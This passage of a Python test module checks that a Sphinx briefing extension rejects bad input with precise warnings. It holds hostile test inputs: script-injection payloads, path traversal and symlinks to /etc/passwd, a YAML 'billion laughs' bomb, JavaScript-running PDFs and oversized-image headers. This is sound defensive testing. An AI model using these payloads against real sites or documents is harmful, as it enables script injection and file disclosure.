"""Bad and hostile input: every mistake and every trick fails the strict build with its own
warning, on its own line.

Each case is the clean ``test-checks`` book plus one change, built in-process with
Sphinx's own ``make_app``. The case names the warning's subtype and where it must
point: a file and the line of a marker text in it (or a line number). Every
warning of the build must carry a file, a line and a subtype, and be one the case
allows. A few cases prove that something is harmless instead (kept as text,
accepted, printed as written); those are separate tests below the table.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import re
import runpy
import subprocess
import threading
import unicodedata
import zlib
from collections.abc import Callable
from pathlib import Path

import furo
import pytest
import sphinx_design

from sphinx_briefing.booktests import sphinx_command
from sphinx_briefing.checks.containment import hides
from sphinx_briefing.checks.quotes import MAX_CLOSEST
from sphinx_briefing.checks.spreadsheet import csv_problem
from sphinx_briefing.domain.brief import SHOWN_LABEL, briefing_domain, shortened
from sphinx_briefing.records.coverage import SHOWN
from sphinx_briefing.records.export import safe_cell
from sphinx_briefing.web.previews import MAX_PREVIEWS

from .harness import (
    REPO,
    SCRIPTED_SVG,
    SOURCE,
    SVG_OPEN,
    Edit,
    append,
    build,
    fifo,
    hard_linked,
    inserted,
    line_of,
    moved_out,
    nested_list,
    prepend,
    raw_bytes,
    replace,
    symlink,
    warnings_in,
    warnings_text,
    write,
)

QUOTE = '"a very, very hard thing to build"'
#: A PNG whose header reads well and whose pixels are missing.
DAMAGED_PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00"
#: A PDF whose opening runs JavaScript (the name written with a #-escape, as PDF allows),
#: and one whose action hides in a Flate-compressed object stream.
SCRIPTED_PDF = (
    "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >> endobj\n"
    "trailer << /Root 1 0 R >>\n%%EOF\n"
)
HEX_SCRIPT_PDF = (
    b"%PDF-1.5\n2 0 obj << /Type /ObjStm /Filter /ASCIIHexDecode >> stream\n"
    + b"<< /S /JavaScript /JS (app.alert(1)) >>".hex().encode()
    + b">\nendstream endobj\n%%EOF\n"
)
A85_SCRIPT_PDF = (
    b"%PDF-1.5\n2 0 obj << /Type /ObjStm /Filter [/ASCII85Decode /FlateDecode] >> stream\n"
    + base64.a85encode(zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>"))
    + b"~>\nendstream endobj\n%%EOF\n"
)
COMPRESSED_SCRIPT_PDF = (
    b"%PDF-1.5\n2 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n"
    + zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    + b"\nendstream endobj\n%%EOF\n"
)
EITHER_QUOTE_CHECK = "briefing.misquote|briefing.uncited-quote"


def refused_attribution(value: str) -> tuple[list[Edit], str, str, int]:
    """A case: the sample source's header given ``attribution: {value}``, refused on its line."""
    return (
        [replace("speaker_names:\n", f"attribution:\n  {value}\nspeaker_names:\n", SOURCE)],
        "briefing.source",
        SOURCE,
        7,
    )


# name: (edits, expected subtype(s) "a|b", file, marker text or line number)
def headings_page(count: int, before: str = "") -> str:
    """An orphan page of ``count`` headings, all but the first titled "a" (each four lines),
    with ``before`` under the first."""
    return "---\norphan: true\n---\n# Heads\n\n" + (before and before + "\n\n") + "## a\n\nText.\n\n" * (count - 1)


#: Lines a line scan took for a code block that never closes, though Markdown reads none.
HIDERS = {
    "a backtick in a backtick fence's info": "```a`b",
    "an indented fence": "    ```",
    "a fence in an HTML comment": "<!--\n```\n-->",
    "a fence in a block quote": "> ```",
}
#: A page of 1,001 reST headings, underlined with "~".
REST_HEADINGS = (
    "---\norphan: true\n---\n# R\n\n```{eval-rst}\n"
    + "".join(f"Part {n}\n{'~' * 12}\n\nText.\n\n" for n in range(1_001))
    + "```\n"
)
#: What those lines are, once Markdown reads them: code, or raw HTML.
HIDDEN_AS = ("briefing.code", "briefing.raw-markup")


CASES: dict[str, tuple[list[Edit], str, str, str | int]] = {
    # -- security: nothing runs, nothing from outside is published ------------------------------
    "record id with markup": (
        [replace("```{person} lee", '```{person} "><svg/onload=alert(1)>')],
        "briefing.record-id",
        "index.md",
        "```{person}",
    ),
    "script element": ([inserted("<script>alert(1)</script>")], "briefing.raw-markup", "index.md", "<script>"),
    "image with onerror": ([inserted("<img src=x onerror=alert(1)>")], "briefing.raw-markup", "index.md", "<img src=x"),
    "inline HTML with a handler": (
        [inserted('Text <b onmouseover="alert(1)">x</b> here.')],
        "briefing.raw-markup",
        "index.md",
        "Text <b",
    ),
    "raw directive": (
        [inserted("```{raw} html\n<script>alert(1)</script>\n```")],
        "briefing.raw-markup",
        "index.md",
        "```{raw} html",
    ),
    "raw HTML in a glossary definition": (
        [replace("   A newspaper.", "   A newspaper <script>alert(document.cookie)</script>.")],
        "briefing.raw-markup",
        "index.md",
        "A newspaper <script>",
    ),
    "raw HTML in a person body": (
        [replace("She says trust", "<script>alert(1)</script>\n\nShe says trust")],
        "briefing.raw-markup",
        "index.md",
        "<script>",
    ),
    "image in a record body": (
        [replace("She says trust", "![x](pic.png)\n\nShe says trust")],
        "briefing.record-file",
        "index.md",
        "![x]",
    ),
    "image from outside in a record body": (
        [replace("She says trust", "![x](../../../../etc/passwd)\n\nShe says trust")],
        "briefing.record-file",
        "index.md",
        "![x]",
    ),
    "link of another scheme in a record body": (
        [replace("She says trust", "[x](ftp://example.org/f) and she says trust")],
        "briefing.unsafe-link",
        "index.md",
        "[x](ftp",
    ),
    "toctree entry that runs a script": (
        [inserted("```{toctree}\n:hidden:\n\nClick <javascript://%0aalert(1)>\nData <data://text/html,x>\n```")],
        "briefing.unsafe-link",
        "index.md",
        "```{toctree}",
    ),
    "card link to a page by a path no check resolves (red team AD)": (
        [inserted(":::{card} Go\n:link: no-such-page.html\n:link-type: url\n\nA card.\n:::")],
        "briefing.path-link",
        "index.md",
        ":::{card} Go",
    ),
    "card link out of the book by a path (red team AD)": (
        [inserted(":::{card} Go\n:link: ../../../../etc/passwd\n:link-type: url\n\nA card.\n:::")],
        "briefing.path-link",
        "index.md",
        ":::{card} Go",
    ),
    "link with a scheme that is not the web's": (
        [inserted("A [link](ftp://example.org/file) here.")],
        "briefing.unsafe-link",
        "index.md",
        "A [link]",
    ),
    "image path outside the project": (
        [inserted("![x](../../../../etc/passwd)")],
        "briefing.outside-file",
        "index.md",
        "![x]",
    ),
    "image given as a URL": (
        [inserted("![x](https://example.org/pixel.png)")],
        "briefing.outside-file",
        "index.md",
        "![x]",
    ),
    "image symlink out of the project": (
        [symlink("leak.png", "/etc/passwd"), inserted("![x](leak.png)")],
        "briefing.outside-file",
        "index.md",
        "![x]",
    ),
    "download outside the project": (
        [inserted("Get {download}`this <../../../../etc/passwd>`.")],
        "briefing.outside-file",
        "index.md",
        "Get {download}",
    ),
    "include of a file outside": (
        [inserted("```{include} ../../../../etc/passwd\n```")],
        "briefing.file-insertion",
        "index.md",
        "```{include}",
    ),
    "include of /dev/zero": (
        [inserted("```{include} /dev/zero\n```")],
        "briefing.file-insertion",
        "index.md",
        "```{include}",
    ),
    "literalinclude": (
        [inserted("```{literalinclude} /etc/passwd\n```")],
        "briefing.file-insertion",
        "index.md",
        "```{literalinclude}",
    ),
    # -- quotations in every mark style, nested and split -------------------------------------------
    **{
        f"misquote in {style} marks": (
            [inserted(f"Lee calls trust {opening}a very, very hard thing to build{closing} {{cite}}`2`.")],
            "briefing.misquote",
            "index.md",
            "Lee calls trust",
        )
        for style, opening, closing in [
            ("straight single", "'", "'"),
            ("curly single", "‘", "’"),
            ("guillemet", "«", "»"),
            ("single guillemet", "‹", "›"),
            ("German", "„", "“"),
            ("reversed", "‟", "”"),
            ("full-width", "＂", "＂"),
            ("CJK", "〝", "〟"),
            ("curly double", "“", "”"),
        ]
    },
    "misquote nested in a quotation": (
        [inserted("Lee said “it is ‘a very, very hard thing to build’” {cite}`2`.")],
        "briefing.misquote",
        "index.md",
        "Lee said “it is",
    ),
    "quotation split across paragraphs": (
        [inserted('Lee said "a very, very difficult\n\nthing to build", Lee said {cite}`2`.')],
        "briefing.unclosed-quote",
        "index.md",
        'Lee said "a very',
    ),
    "quotation split across list items": (
        [inserted('- Lee said "a very, very difficult\n- thing to build", Lee said {cite}`2`.')],
        "briefing.unclosed-quote",
        "index.md",
        '- Lee said "a very',
    ),
    # -- every text-bearing container -------------------------------------------------------------
    "quotation in a heading": ([inserted(f"## Lee: {QUOTE}")], EITHER_QUOTE_CHECK, "index.md", "## Lee:"),
    "quotation in an admonition title": (
        [inserted(f"```{{admonition}} Lee: {QUOTE}\nText.\n```")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "```{admonition} Lee:",
    ),
    "quotation in a card title": (
        [inserted(f"````{{grid}} 1\n```{{grid-item-card}} Lee: {QUOTE}\nText.\n```\n````")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "```{grid-item-card} Lee:",
    ),
    "quotation in a figure caption": (
        [inserted(f"```{{figure}} missing.png\n:alt: A figure\n\nLee: {QUOTE}\n```")],
        EITHER_QUOTE_CHECK,
        "index.md",
        'Lee: "a very',
        "image.not_readable",
    ),
    "quotation in a definition-list term": (
        [inserted(f"Lee {QUOTE}\n: A term.")],
        EITHER_QUOTE_CHECK,
        "index.md",
        'Lee "a very',
    ),
    "quotation in a dropdown title": (
        [inserted(f"```{{dropdown}} Lee: {QUOTE}\nText.\n```")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "```{dropdown} Lee:",
    ),
    "quotation in a table title": (
        [inserted(f"```{{list-table}} Lee: {QUOTE}\n* - A\n```")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "```{list-table} Lee:",
    ),
    "quotation in a rubric": (
        [inserted(f"```{{rubric}} Lee: {QUOTE}\n```")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "```{rubric} Lee:",
    ),
    "quotation in a topic title": (
        [inserted(f"```{{topic}} Lee: {QUOTE}\nText.\n```")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "```{topic} Lee:",
    ),
    "quotation in a sidebar title": (
        [inserted(f"```{{sidebar}} Lee: {QUOTE}\nText.\n```")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "```{sidebar} Lee:",
    ),
    "quotation in a tab label": (
        [inserted(f"````{{tab-set}}\n```{{tab-item}} Lee: {QUOTE}\nText.\n```\n````")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "````{tab-set}",
    ),
    "quotation in image alt text": (
        [inserted(f"![Lee: {QUOTE}](missing.png)")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "![Lee:",
        "image.not_readable",
    ),
    "quotation in a link title": (
        [inserted(f"A [link](https://example.org 'Lee: {QUOTE}') here.")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "A [link]",
    ),
    # -- markup that hides words; cuts and insertions ----------------------------------------------
    "inline code inside a quotation": (
        [inserted('Lee calls trust "a very, very `hard` thing to build" {cite}`2`.')],
        "briefing.misquote",
        "index.md",
        "Lee calls trust",
        "briefing.code",
    ),
    "kbd inside a quotation": (
        [inserted('Lee calls trust "a very, very {kbd}`hard` thing to build" {cite}`2`.')],
        "briefing.misquote",
        "index.md",
        "Lee calls trust",
        "briefing.code",
    ),
    "ref inside a quotation": (
        [inserted('Lee calls trust "a very, very {ref}`method` thing" {cite}`2`.')],
        "briefing.quote-markup",
        "index.md",
        "Lee calls trust",
    ),
    "insertion that negates": (
        [inserted('Lee says "Trust is [not] a very, very difficult thing" {cite}`2`.')],
        "briefing.misquote",
        "index.md",
        'Lee says "Trust',
    ),
    "cut that drops a negation": (
        [inserted('Lee says "It is … easy to repair" {cite}`2`.')],
        "briefing.misquote",
        "index.md",
        'Lee says "It is',
    ),
    # -- numbers as whole quantities, wherever they are shown --------------------------------------
    **{
        f"amount {amount!r}": (
            [inserted(f"According to the newspaper Gazette, the agency spent {amount} {{cite}}`1`.")],
            "briefing.unsupported-number",
            "index.md",
            "According to the newspaper Gazette, the agency spent " + amount,
        )
        for amount in ["$4 million", "4 million", "$40", "0 million", "40,00", "$40 billion", "$4.0 million"]
    },
    "count that is part of another": (
        [inserted("The mayor opened 2 new schools {cite}`3`.")],
        "briefing.unsupported-number",
        "index.md",
        "opened 2 new",
    ),
    "key-figure reference with a false title": (
        [inserted("The Gazette gives {key-figure}`$600 million <budget>` {cite}`1`.")],
        "briefing.unsupported-number",
        "index.md",
        "The Gazette gives",
    ),
    "event shown with another year": (
        [replace(":date: 2016\n", ":date: 2016\n:when: 1905\n")],
        "briefing.event-when",
        "index.md",
        "```{event} schools",
        "briefing.unsupported-number",
    ),
    "card title with a false figure": (
        [
            inserted(
                "````{grid} 1\n```{grid-item-card} $400 million\nAccording to the newspaper Gazette {cite}`1`.\n```\n````"
            )
        ],
        "briefing.unsupported-number",
        "index.md",
        "```{grid-item-card} $400",
    ),
    # -- placements that never appear ----------------------------------------------------------------
    "exclusion inside only": (
        [
            replace(
                "```{source-exclude} 4\nA link to another story, not content.\n```",
                "````{only} latex\n```{source-exclude} 4\nA link to another story, not content.\n```\n````",
            )
        ],
        "briefing.conditional-placement",
        "index.md",
        "```{source-exclude} 4",
    ),
    "exclusion reason that is a lone full stop (red team H)": (
        [replace("A link to another story, not content.", ".")],
        "briefing.exclude-reason",
        "index.md",
        "```{source-exclude} 4",
        "briefing.unplaced",
    ),
    "exclusion reason that is marks around a hair space": (
        [replace("A link to another story, not content.", "*\u200a*")],
        "briefing.exclude-reason",
        "index.md",
        "```{source-exclude} 4",
        "briefing.unplaced",
    ),
    "exclusion reason that is only a zero-width space": (
        [replace("A link to another story, not content.", "\u200b")],
        "briefing.exclude-reason",
        "index.md",
        "```{source-exclude} 4",
        "briefing.unplaced",
    ),
    # -- hidden characters ---------------------------------------------------------------------------
    "NUL byte in a source": (
        [raw_bytes(lambda b: b.replace(b"The mayor opened", b"The\x00mayor opened"))],
        "briefing.source",
        SOURCE,
        16,
    ),
    "source of nearly 2 MB of NUL bytes": (
        [raw_bytes(lambda b: b.replace(b"The mayor opened", b"\x00" * 1_900_000 + b"The mayor opened"))],
        "briefing.source",
        SOURCE,
        16,
    ),
    "right-to-left override in a source": (
        [raw_bytes(lambda b: b.replace(b"in 2016", "in \u202e6102".encode()))],
        "briefing.source",
        SOURCE,
        16,
    ),
    "NUL byte in a page": (
        [raw_bytes(lambda b: b.replace(b"Lee spoke about", b"Lee\x00spoke about"), "index.md")],
        "briefing.hidden-character",
        "index.md",
        "spoke about trust",
    ),
    "bidi isolate in a page": (
        [raw_bytes(lambda b: b.replace(b"Lee spoke about", "Lee \u2067spoke about".encode()), "index.md")],
        "briefing.hidden-character",
        "index.md",
        "spoke about trust",
    ),
    **{
        f"{what} in a page": (
            [inserted(f"Lee said the deal wi{written}ll hold {{cite}}`2`.")],
            "briefing.hidden-character",
            "index.md",
            "Lee said the deal",
            "briefing.judgment",
        )
        for what, written in [
            ("bidi override as a character reference", "&#x202E;"),
            ("soft hyphen as an entity", "&shy;"),
            ("zero width space as a character reference", "&#x200B;"),
            ("soft hyphen", "\u00ad"),
            ("zero width space", "\u200b"),
        ]
    },
    # red team U: a YAML escape writes a lone surrogate, which stopped the PDF and the data export
    "a lone surrogate written as an escape in a directive's option": (
        [append('```{admonition} A note\n---\nname: "a\\ud800b"\n---\nPlain words.\n```', "other.md")],
        "briefing.hidden-character",
        "other.md",
        "```{admonition} A note",
    ),
    "a lone surrogate written as an escape in a source header": (
        [replace("dateline: TESTVILLE\n", 'dateline: "TEST\\ud800VILLE"\n', SOURCE)],
        "briefing.source",
        SOURCE,
        "dateline:",
    ),
    # -- the source header, read strictly --------------------------------------------------------------
    "duplicate header key": (
        [replace("dateline: TESTVILLE\n", "dateline: TESTVILLE\ndateline: ELSEWHERE\n", SOURCE)],
        "briefing.source",
        SOURCE,
        5,
    ),
    "YAML alias": (
        [replace("dateline: TESTVILLE\n", "dateline: &d TESTVILLE\nplace: *d\n", SOURCE)],
        "briefing.source",
        SOURCE,
        5,
    ),
    "billion laughs": (
        [
            replace(
                "dateline: TESTVILLE\n",
                "dateline: TESTVILLE\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n",
                SOURCE,
            )
        ],
        "briefing.source",
        SOURCE,
        6,
    ),
    "a source label of 5,000 letters, printed at every citation": (
        [replace("id: sample\n", "id: sample\nlabel: " + "L" * 5_000 + "\n", SOURCE)],
        "briefing.source",
        SOURCE,
        3,
    ),
    "a source title of 100,000 letters": (
        [replace("title: Sample headline\n", "title: " + "T" * 100_000 + "\n", SOURCE)],
        "briefing.source",
        SOURCE,
        3,
    ),
    "an attribution that names no speaker (red team H)": refused_attribution('"2": ""'),
    "an attribution with a misspelt key": refused_attribution('"2": {view: Ann Lee, qoutes: article}'),
    "an attribution whose view is a mapping": refused_attribution('"2": {view: {x: y}}'),
    "an attribution of separators only": refused_attribution('"2": ";;;"'),
    "an attribution to a tilde, which YAML writers take for null (red team I)": refused_attribution('"2": "~"'),
    "an attribution to a name with a zero-width space": refused_attribution('"2": "Ann\\u200bLee"'),
    "a speaker alias that is another speaker's name (red team H)": (
        [replace("  newspaper Gazette: [Gazette]\n", "  newspaper Gazette: [Gazette, Lee]\n", SOURCE)],
        "briefing.source",
        SOURCE,
        7,
    ),
    "an attribution keyed by a digit of another script": refused_attribution('"\u0662": Ann Lee'),
    "impossible date": ([replace('date: "2017"', "date: 2017-02-30", SOURCE)], "briefing.source", SOURCE, 5),
    # -- bounded work and files that are not files -------------------------------------------------
    "citation of a hundred million paragraphs": (
        [inserted("The mayor {cite}`3-100000000`.")],
        "briefing.unknown-paragraph",
        "index.md",
        "The mayor {cite}",
    ),
    "source that is a symlink to /dev/zero": (
        [symlink("source/zero.md", "/dev/zero")],
        "briefing.source",
        "source/zero.md",
        1,
    ),
    "source that is a FIFO": ([fifo("source/pipe.md")], "briefing.source", "source/pipe.md", 1),
    "source that is a symlink out of the tree": (
        [symlink("source/leak.md", "/etc/passwd")],
        "briefing.source",
        "source/leak.md",
        1,
    ),
    "source folder that is a symlink out of the book": ([moved_out("source")], "briefing.source", "source", 1),
    "page that is a symlink out of the book": (
        [moved_out("extra.md"), replace("```{toctree}\n", "```{toctree}\nextra\n")],
        "briefing.outside-file",
        "extra.md",
        1,
        "toc.not_readable",
    ),
    "one paragraph of 2,000 cited quotations, whose checks grow with its square (red team I)": (
        [inserted(" ".join(["Ann Lee said trust was “a very, very difficult thing to build” {cite}`2`."] * 2_000))],
        "briefing.passage-length",
        "index.md",
        "Ann Lee said trust",
    ),
    "source that is a hard link to a file outside the book": (
        [hard_linked(SOURCE)],
        "briefing.source",
        SOURCE,
        1,
    ),
    "page that is a FIFO (red team I)": (
        [fifo("pipe.md"), replace("```{toctree}\n", "```{toctree}\npipe\n")],
        "briefing.special-file",
        "pipe.md",
        1,
        "toc.not_readable",
    ),
    "page that is a symlink to a private file inside the book (red team I)": (
        [
            write(".github/notes.txt", "# Notes\n\nThe deploy password is hunter-two-canary.\n"),
            symlink("notes.md", ".github/notes.txt"),
            replace("```{toctree}\n", "```{toctree}\nnotes\n"),
        ],
        "briefing.special-file",
        "notes.md",
        1,
        "toc.not_readable",
    ),
    "page that is a hard link to a file outside the book": (
        [hard_linked("extra.md"), replace("```{toctree}\n", "```{toctree}\nextra\n")],
        "briefing.outside-file",
        "extra.md",
        1,
        "toc.not_readable",
    ),
    "a download that is a hard link to a file outside the book (red team G, 12)": (
        [hard_linked("notes.txt"), inserted("Get {download}`the notes <notes.txt>`.")],
        "briefing.outside-file",
        "index.md",
        "Get {download}",
    ),
    "a picture that is a hard link to a file outside the book": (
        [hard_linked("leak.svg"), inserted("![x](leak.svg)")],
        "briefing.outside-file",
        "index.md",
        "![x](leak.svg)",
    ),
    "picture of 900 million pixels in a small file": (
        [
            write(
                "vast.png",
                b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + (30_000).to_bytes(4, "big") * 2 + b"\x01\x00\x00\x00\x00",
            ),
            inserted("![A vast picture](vast.png)"),
        ],
        "briefing.picture-size",
        "index.md",
        "![A vast picture]",
    ),
    "page name an EPUB cannot hold": (
        [
            write('x"y<img src=q onerror=alert(9)>z.md', b"# Odd name\n\nPlain words.\n"),
            replace("```{toctree}\n", '```{toctree}\nx"y<img src=q onerror=alert(9)>z\n'),
        ],
        "briefing.page-name",
        'x"y<img src=q onerror=alert(9)>z.md',
        1,
    ),
    # red team R: the build's own index page printed over the chapter, which was still checked
    "a page named like the index the build writes": (
        [
            write("genindex.md", b"# A chapter\n\nPlain words.\n"),
            replace("```{toctree}\n", "```{toctree}\ngenindex\n"),
        ],
        "briefing.page-name",
        "genindex.md",
        1,
    ),
    # red team R: the build deleted the page as a copied file no page names
    "a page in the folder of copied pictures": (
        [
            write("_images/note.md", b"# A note\n\nPlain words.\n"),
            replace("```{toctree}\n", "```{toctree}\n_images/note\n"),
        ],
        "briefing.page-name",
        "_images/note.md",
        1,
    ),
    "folder of pages that is a symlink out of the book": (
        [moved_out("more"), replace("```{toctree}\n", "```{toctree}\nmore/extra\n")],
        "briefing.outside-file",
        "more/extra.md",
        1,
        "toc.not_readable",
    ),
    "a number of 5,000 digits": (
        [inserted("Lee counted " + "9" * 5000 + " boats {cite}`1`.")],
        "briefing.unsupported-number",
        "index.md",
        "Lee counted 999",
        "briefing.unattributed",
    ),
    "a paragraph number of 5,000 digits": (
        [inserted("Lee spoke {cite}`" + "9" * 5000 + "`.")],
        "briefing.unknown-paragraph|briefing.address",
        "index.md",
        "Lee spoke {cite}",
    ),
    # -- clear messages --------------------------------------------------------------------------------
    "citation of an empty address": ([inserted("Lee {cite}`:`.")], "briefing.address", "index.md", "Lee {cite}`:`"),
    # -- ordinary mistakes -------------------------------------------------------------------------------
    "unknown source": ([inserted("See {cite}`nosuch:1`.")], "briefing.unknown-source", "index.md", "See {cite}`nosuch"),
    "unknown paragraph": (
        [inserted("The mayor {cite}`99`.")],
        "briefing.unknown-paragraph",
        "index.md",
        "The mayor {cite}`99`",
    ),
    "unreadable address": (
        [inserted("The mayor {cite}`abc`.")],
        "briefing.address",
        "index.md",
        "The mayor {cite}`abc`",
    ),
    "paragraph placed twice": (
        [append("```{source-paragraphs} 2\n```", "other.md")],
        "briefing.placed-twice",
        "other.md",
        "```{source-paragraphs} 2",
    ),
    "paragraph placed nowhere": (
        [replace("```{source-paragraphs} 1-3", "```{source-paragraphs} 1, 3")],
        "briefing.unplaced",
        SOURCE,
        14,
    ),
    "paragraph appended to the source": (
        [append("A new paragraph nobody placed.", SOURCE)],
        "briefing.unplaced",
        SOURCE,
        20,
    ),
    "exclusion without a reason": (
        [replace("A link to another story, not content.", "")],
        "briefing.exclude-reason",
        "index.md",
        "```{source-exclude} 4",
        "briefing.unplaced",
    ),
    "quotation without a citation": (
        [inserted('She called it "difficult".')],
        "briefing.uncited-quote",
        "index.md",
        "She called it",
    ),
    "source header missing a field": (
        [replace("date_basis: Stated in the test.\n", "", SOURCE)],
        "briefing.source",
        SOURCE,
        1,
    ),
    "source header that is not YAML": (
        [replace("dateline: TESTVILLE", "dateline: [TESTVILLE", SOURCE)],
        "briefing.source",
        SOURCE,
        4,
    ),
    "source over the size limit": (
        [raw_bytes(lambda b: b + b"\nA very long paragraph." * 100_000)],
        "briefing.source",
        SOURCE,
        1,
    ),
    "source not UTF-8": ([raw_bytes(lambda b: b.replace(b"Ann Lee", b"Ann L\xe9e"))], "briefing.source", SOURCE, 14),
    "page not UTF-8": (
        [raw_bytes(lambda b: b + b"\nCaf\xe9\n", "other.md")],
        "briefing.encoding",
        "other.md",
        5,
        "toc.not_readable",
    ),
    "figure value not in the cited paragraph": (
        [replace(":value: $40 million", ":value: $70 million")],
        "briefing.figure-value",
        "index.md",
        "```{key-figure} budget",
    ),
    "event year not in the cited paragraph": (
        [replace(":date: 2016\n", ":date: 2015\n")],
        "briefing.unsupported-date",
        "index.md",
        "```{event} schools",
        "briefing.unsupported-number",
    ),
    "record id declared twice": (
        [append("```{person} lee\n:name: Ann Lee\n:role: Professor\n:cite: 2\n```", "other.md")],
        "briefing.duplicate-id",
        "other.md",
        "```{person} lee",
    ),
    "words given to someone the cited paragraph does not name": (
        [inserted("Zed said that for Ann Lee trust is hard to build {cite}`2`.")],
        "briefing.misattributed",
        "index.md",
        "Zed said",
    ),
    "words given to someone else who shares the speaker's surname (red team H)": (
        [inserted("Bob Lee, the dancer, said that trust is hard to build {cite}`2`.")],
        "briefing.misattributed",
        "index.md",
        "Bob Lee, the dancer",
    ),
    "a key figure that does not say what it counts": (
        [inserted("```{key-figure} fig\n:value: 12\n:measures: Schools the mayor opened\n:cite: 3\n```")],
        "briefing.figure-value",
        "index.md",
        "```{key-figure} fig",
    ),
    "a key figure that measures what its paragraph does not count": (
        [inserted("```{key-figure} fig\n:value: 12 new schools\n:measures: Pupils taught in Testville\n:cite: 3\n```")],
        "briefing.figure-measure",
        "index.md",
        "```{key-figure} fig",
    ),
    "a glossary term with an index key, which the general index prints unchecked": (
        [replace("\nMayor\n", "\nMayor : 900 schools closed in 2019\n")],
        "briefing.glossary-key",
        "index.md",
        "Mayor : 900",
    ),
    "a person the cited paragraph does not name": (
        [inserted("```{person} zed\n:name: Ghost Zed\n:role: Minister\n:cite: 2\n```")],
        "briefing.person-name",
        "index.md",
        "```{person} zed",
    ),
    "a person whose nickname the cited paragraph does not give": (
        [replace(":name: Ann Lee", ":name: Ann (The Professor) Lee")],
        "briefing.person-name",
        "index.md",
        "```{person} lee",
    ),
    "a role in a record option": (
        [replace(":role: Professor", ":role: {draft}`fill in the role`")],
        "briefing.option-markup",
        "index.md",
        "```{person} lee",
    ),
    "a glossary role in a key figure's option": (
        [inserted("```{key-figure} fig\n:value: 12 new schools\n:measures: New {term}`schools`\n:cite: 3\n```")],
        "briefing.option-markup",
        "index.md",
        "```{key-figure} fig",
    ),
    "reference to no record": (
        [inserted("See {person}`nobody`.")],
        "briefing.unknown-record",
        "index.md",
        "See {person}`nobody`",
    ),
    "term never defined": ([inserted("See {term}`UNDEFINED`.")], "ref.term", "index.md", "See {term}`UNDEFINED`"),
    "term never used": (
        [replace("```{glossary}\n", "```{glossary}\nZZ\n   Unused.\n\n")],
        "briefing.unused-term",
        "index.md",
        "ZZ",
    ),
    "unknown directive": (
        [inserted("```{no-such-directive}\n```")],
        "myst.directive_unknown",
        "index.md",
        "```{no-such-directive}",
    ),
    "toctree entry for no page": (
        [replace("```{toctree}\nother\n", "```{toctree}\nother\nmissing-page\n")],
        "toc.not_readable",
        "index.md",
        "```{toctree}",
    ),
    # -- quantities as the article writes them: ranges, units, retractions, numbers as read ------
    **{
        f"quantity {name}": (
            [
                replace(
                    "according to an analysis by the newspaper Gazette.",
                    f"according to an analysis by the newspaper Gazette. {given}",
                    SOURCE,
                ),
                inserted(f"According to the newspaper Gazette, {claim} {{cite}}`1`."),
            ],
            "briefing.unsupported-number",
            "index.md",
            f"According to the newspaper Gazette, {claim}",
            *(["briefing.lookalike-digit"] if "letter" in name else []),  # 12O is also a typo
        )
        for name, given, claim in [
            ("range cut to one end", "Between 15 and 20 percent went to pilots.", "20 percent went to pilots"),
            ("range read as a ceiling", "Between 15 and 20 percent went to pilots.", "up to 20 percent went to pilots"),
            ("unit cut short", "The canal carried 410 cubic metres per second.", "the canal carried 410 cubic metres"),
            ("retracted in its correction", "It spent $40 million, not $45 million.", "it spent $45 million"),
            ("with a letter for a digit", "It trained 12 pilots.", "it trained 12O pilots"),
            ("in superscript digits", "It trained 120 pilots.", "it trained ¹³ pilots"),
            ("as half a billion", "It trained 120 pilots.", "it spent half a billion dollars"),
        ]
    },
    "key figure without its scale": (
        [replace(":value: $40 million", ":value: $40")],
        "briefing.figure-value",
        "index.md",
        "```{key-figure} budget",
    ),
    "key figure the source retracts": (
        [
            replace(
                "according to an analysis by the newspaper Gazette.",
                "according to an analysis by the newspaper Gazette. It is $40 million, not $45 million.",
                SOURCE,
            ),
            replace(":value: $40 million", ":value: $45 million"),
        ],
        "briefing.figure-value",
        "index.md",
        "```{key-figure} budget",
    ),
    # -- quotations are what they claim; every text a reader sees is checked; structure that hides text
    **{
        f"misquote in {style} marks": (
            [inserted(f"Lee calls trust {opening}a very, very hard thing to build{closing} {{cite}}`2`.")],
            "briefing.misquote",
            "index.md",
            "Lee calls trust",
        )
        for style, opening, closing in [
            ("ornament", "❝", "❞"),
            ("corner bracket", "「", "」"),
            ("white corner bracket", "『", "』"),
            ("double prime", "″", "″"),
            ("low-9 single", "‚", "‘"),
            ("halfwidth corner", "｢", "｣"),
            ("reversed guillemet", "»", "«"),
        ]
    },
    **{
        f"misquote by a {name}": (
            [inserted(f'Lee calls trust "a very, very {word} thing to build" {{cite}}`2`.')],
            "briefing.misquote",
            "index.md",
            "Lee calls trust",
            "briefing.hidden-character",
        )
        for name, word in [
            ("Cyrillic letter", "diffic\u0443lt"),
            ("zero-width space", "diffi\u200bcult"),
            ("soft hyphen", "dif\u00adficult"),
        ]
    },
    "negation before the quotation left out": (
        [inserted('Lee says trust is "easy to repair" {cite}`2`.')],
        "briefing.misquote",
        "index.md",
        "Lee says trust is",
    ),
    "insertion that replaces a word": (
        [inserted('Lee calls trust "a very, very [easy] thing to build" {cite}`2`.')],
        "briefing.misquote",
        "index.md",
        "Lee calls trust",
    ),
    "block quote without quotation marks": (
        [inserted("> Trust is a very, very hard thing to build {cite}`2`.")],
        "briefing.misquote",
        "index.md",
        "> Trust is",
        "briefing.unattributed",
    ),
    "quotation in inline code": (
        [inserted('Lee said `"a very, very hard thing to build"` {cite}`2`.')],
        "briefing.code",
        "index.md",
        "Lee said `",
    ),
    "quotation in a code block": (
